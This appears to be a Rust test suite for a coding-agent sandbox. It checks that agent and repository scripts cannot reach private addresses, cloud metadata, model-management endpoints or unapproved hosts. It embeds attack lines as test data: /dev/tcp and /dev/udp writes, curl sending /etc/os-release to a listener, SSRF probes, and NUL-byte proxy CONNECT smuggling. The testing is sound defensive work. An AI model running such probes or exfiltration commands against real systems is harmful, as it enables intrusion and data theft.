//! An agent and a repository's own programs attack networks: the addresses that they may not reach
//! receive nothing from the sandbox, and do receive it without one.

use std::sync::{Arc, Mutex};

use axum::Router;
use axum::extract::State;
use axum::http::{HeaderMap, Uri};
use serde_json::json;
use tokio_rustls::TlsAcceptor;
use tokio_rustls::rustls::ServerConfig;
use tokio_rustls::rustls::pki_types::PrivateKeyDer;
use tokio_rustls::server::TlsStream;

use crate::world::attack::{Attack, CANARY, TcpTarget, UdpTarget, read};
use crate::world::ollama::Ollama;
use crate::world::{TASK_SCRIPT, TOKEN, World};

#[tokio::test(flavor = "multi_thread")]
async fn no_address_is_reached() {
    for sandboxed in [false, true] {
        let mut attack = Attack::new(sandboxed).await;
        let (tcp, udp) = (TcpTarget::new(), UdpTarget::new());
        let mut script = format!(
            "bash -c 'echo {CANARY} > /dev/tcp/127.0.0.1/{}'\n\
             bash -c 'echo {CANARY} > /dev/udp/127.0.0.1/{}'\n",
            tcp.port(),
            udp.port()
        );
        // Without a sandbox the attack would reach machines that are none of this test's.
        if sandboxed {
            for address in ["169.254.169.254/80", "192.168.1.1/80", "10.0.0.1/22", "1.1.1.1/53"] {
                script.push_str(&format!(
                    "bash -c 'echo x > /dev/tcp/{address}' && echo {address} >> \"$OUTPUT\"\n"
                ));
            }
            script.push_str("getent hosts example.com >> \"$OUTPUT\"\n");
        }
        attack.run(&script).await;
        let received = tcp.received().unwrap_or_default();
        assert_eq!(received.contains(CANARY), !sandboxed, "TCP, sandboxed: {sandboxed}");
        assert_eq!(udp.has_received(), !sandboxed, "UDP, sandboxed: {sandboxed}");
        assert_eq!(attack.output(), "");
    }
}

/// The agent's own calls reach the model; a call that would change which models are installed does
/// not.
#[tokio::test(flavor = "multi_thread")]
async fn the_models_server_is_reached_for_inference_only() {
    for sandboxed in [false, true] {
        let ollama = Ollama::start(["m:1b"]).await;
        let mut attack = Attack::new(sandboxed).await;
        let endpoint = if sandboxed { "$OLLAMA_HOST" } else { ollama.endpoint() };
        let requests = [
            "-X POST -d '{\"model\":\"m:1b\",\"messages\":[]}' ENDPOINT/api/chat",
            "-X DELETE -d '{\"model\":\"m:1b\"}' ENDPOINT/api/delete",
            "-X POST -d '{\"model\":\"evil\"}' ENDPOINT/api/pull",
            "-H 'origin: https://evil.example' ENDPOINT/api/tags",
        ];
        let script = requests.map(|request| {
            let request = request.replace("ENDPOINT", endpoint);
            format!("curl -s {request} -o /dev/null -w '%{{http_code}}\\n' >> \"$OUTPUT\"\n")
        });
        let (script, output) = (script.concat(), attack.output_file());
        attack.world.agent(&format!("OUTPUT='{}'\n{script}{TASK_SCRIPT}", output.display()));
        attack.world.set("agent", json!({ "model_endpoint": ollama.endpoint() }));
        assert_eq!(attack.world.work().await.code, Some(0));
        let output = attack.output();
        let first: Vec<&str> = output.lines().take(4).collect();
        // 404 is the server's own answer.
        let expected =
            if sandboxed { ["200", "403", "403", "403"] } else { ["200", "404", "404", "200"] };
        assert_eq!(first, expected, "sandboxed: {sandboxed}");
        attack.world.check_done(attack.issue).await;
    }
}

/// Asks the proxy for names that lead to this machine: its own, as numbers, and with a NUL before a
/// suffix that is allowed.
const NAMES: &str = r#"
import socket
for name in ['localhost', '2130706433', '127.1', '[::ffff:127.0.0.1]',
             '127.0.0.1\0.crates.io', 'crates.io\0@127.0.0.1']:
    try:
        proxy = socket.create_connection(('127.0.0.1', 3128), 5)
        proxy.sendall(f'CONNECT {name}:443 HTTP/1.1\r\nhost: {name}\r\n\r\n'.encode())
        print(proxy.recv(100).split()[1].decode())
    except OSError:
        print('closed')
"#;

/// A setup that may fetch gets a proxy to public addresses, and no other network.
#[tokio::test(flavor = "multi_thread")]
async fn a_setup_that_may_fetch_reaches_no_private_address() {
    const NO_OTHER_CHECKS: &str = "build = \"\"\nformat = \"\"\nlint = \"\"\ntest = \"true\"\n";
    for (sandboxed, network) in [(false, true), (true, true), (true, false)] {
        let mut world = World::without_repository().await;
        if !sandboxed {
            world.without_sandbox();
        }
        let target = TcpTarget::new();
        let output = world.shared_dir().join("output");
        let settings = format!(
            "[checks]\n{NO_OTHER_CHECKS}setup = \"sh setup.sh\"\nsetup_network = {network}\n"
        );
        let direct =
            format!("curl -s -m 2 telnet://127.0.0.1:{} </etc/os-release\n", target.port());
        let by_proxy = format!(
            "for url in http://169.254.169.254/latest http://127.0.0.1 http://localhost \
             http://[::1]/ http://0x7f000001/; do\n\
             curl -s -m 5 -o /dev/null -w '%{{http_code}} ' \"$url\" >> '{output}'; done\n\
             python3 names.py >> '{output}'; true\n",
            output = output.display()
        );
        let setup = if sandboxed { direct + &by_proxy } else { direct };
        let files = [
            (".codingworker.toml", settings.as_str()),
            ("names.py", NAMES),
            ("setup.sh", setup.as_str()),
        ];
        world.forge.repository("owner/repo", "main", &files);
        let issue = world.task("Add a greeting", "").await;
        assert_eq!(world.work().await.code, Some(0));
        assert_eq!(target.received().is_some(), !sandboxed, "sandboxed: {sandboxed}");
        if sandboxed {
            let output = read(&output);
            let codes: Vec<&str> = output.split_whitespace().take(5).collect();
            // curl does not ask the proxy for loopback addresses, where nobody listens; the others
            // the proxy refuses.
            let expected = if network { ["403", "000", "000", "403", "000"] } else { ["000"; 5] };
            assert_eq!(codes, expected, "network: {network}");
            let names: Vec<&str> = output.split_whitespace().skip(5).take(6).collect();
            assert_eq!(names, [if network { "403" } else { "closed" }; 6], "network: {network}");
        }
        world.check_done(issue).await;
    }
}

/// The relay reaches a hosted model by HTTPS and knows it by its certificate; the agent needs no
/// certificates, and reaches no other host.
#[tokio::test(flavor = "multi_thread")]
async fn a_hosted_model_is_reached_by_https_under_its_own_name_only() {
    for name in ["localhost", "another.example"] {
        let (port, authority, asked) = hosted_model(name).await;
        let mut attack = Attack::new(true).await;
        let output = attack.output_file();
        let ask = "curl -s -d '{}' -H 'authorization: Bearer key-of-the-model' \
                   $OPENAI_BASE_URL/chat/completions";
        attack.world.agent(&format!(
            "{ask} -w ' %{{http_code}}\\n' >> '{}'; {TASK_SCRIPT}",
            output.display()
        ));
        let endpoint = format!("https://localhost:{port}/v1");
        attack.world.set("agent", json!({ "model_endpoint": endpoint }));
        let certificate = attack.world.path().join("authority.pem");
        std::fs::write(&certificate, authority).unwrap();
        let environment =
            [("GITHUB_TOKEN", TOKEN), ("SSL_CERT_FILE", certificate.to_str().unwrap())];
        let ran = attack.world.run_with(&["worker", "--once"], &environment).await;
        assert_eq!(ran.code, Some(0), "{ran:?}");
        attack.check_contained(&ran).await;
        let output = attack.output();
        let asked = asked.lock().unwrap();
        if name == "localhost" {
            assert!(output.starts_with("an answer 200\n"), "{output}");
            assert_eq!(asked[0], "/v1/chat/completions Bearer key-of-the-model {}");
        } else {
            assert!(output.contains(" 502\n") && output.contains("certificate"), "{output}");
            assert!(asked.is_empty(), "{asked:?}");
        }
    }
}

type Asked = Arc<Mutex<Vec<String>>>;

/// Starts a model's server with a certificate for `name`: its port, the authority that signed the
/// certificate, and what it was asked.
async fn hosted_model(name: &str) -> (u16, String, Asked) {
    let certified = rcgen::generate_simple_self_signed([name.to_owned()]).unwrap();
    let key = PrivateKeyDer::try_from(certified.signing_key.serialize_der()).unwrap();
    let tls = ServerConfig::builder()
        .with_no_client_auth()
        .with_single_cert(vec![certified.cert.der().clone()], key);
    let listener = Tls {
        tcp: tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap(),
        acceptor: TlsAcceptor::from(Arc::new(tls.unwrap())),
    };
    let port = listener.tcp.local_addr().unwrap().port();
    let asked = Asked::default();
    let answer = async |State(asked): State<Asked>, uri: Uri, headers: HeaderMap, body: String| {
        asked
            .lock()
            .unwrap()
            .push(format!("{uri} {} {body}", headers["authorization"].to_str().unwrap()));
        "an answer"
    };
    let router = Router::new().fallback(answer).with_state(Arc::clone(&asked));
    tokio::spawn(async move { axum::serve(listener, router).await });
    (port, certified.cert.pem(), asked)
}

struct Tls {
    tcp: tokio::net::TcpListener,
    acceptor: TlsAcceptor,
}

impl axum::serve::Listener for Tls {
    type Io = TlsStream<tokio::net::TcpStream>;
    type Addr = std::net::SocketAddr;

    /// A client that does not accept the certificate is not served.
    async fn accept(&mut self) -> (Self::Io, Self::Addr) {
        loop {
            let (stream, address) = self.tcp.accept().await.unwrap();
            if let Ok(stream) = self.acceptor.accept(stream).await {
                return (stream, address);
            }
        }
    }

    fn local_addr(&self) -> std::io::Result<Self::Addr> {
        self.tcp.local_addr()
    }
}
